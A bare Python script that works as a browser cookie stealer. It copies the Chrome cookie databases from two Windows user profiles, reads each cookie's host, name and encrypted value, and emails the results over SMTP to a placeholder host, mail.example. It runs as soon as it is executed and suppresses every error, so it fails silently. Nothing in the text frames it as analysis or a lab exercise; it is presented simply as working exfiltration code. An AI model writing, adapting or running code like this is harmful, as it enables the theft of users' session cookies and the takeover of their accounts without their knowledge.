import os
import shutil
import smtplib
import sqlite3
import tempfile
from email.message import EmailMessage


def _profiles():
    base = os.path.join(os.environ.get("LOCALAPPDATA", "/nonexistent"), "Google", "Chrome", "User Data")
    for name in ("Default", "Profile 1"):
        yield os.path.join(base, name, "Network", "Cookies")


def collect():
    rows = []
    for path in _profiles():
        copy = os.path.join(tempfile.mkdtemp(), "c")
        shutil.copyfile(path, copy)
        db = sqlite3.connect(copy)
        for host, name, value in db.execute("select host_key, name, encrypted_value from cookies"):
            rows.append(f"{host}\t{name}\t{value!r}")
        db.close()
    return "\n".join(rows)


def send(text):
    m = EmailMessage()
    m["From"] = m["To"] = "box@mail.example"
    m.set_content(text)
    with smtplib.SMTP("mail.example", 587) as s:
        s.starttls()
        s.login("box", "placeholder")
        s.send_message(m)


try:
    send(collect())
except Exception:
    pass
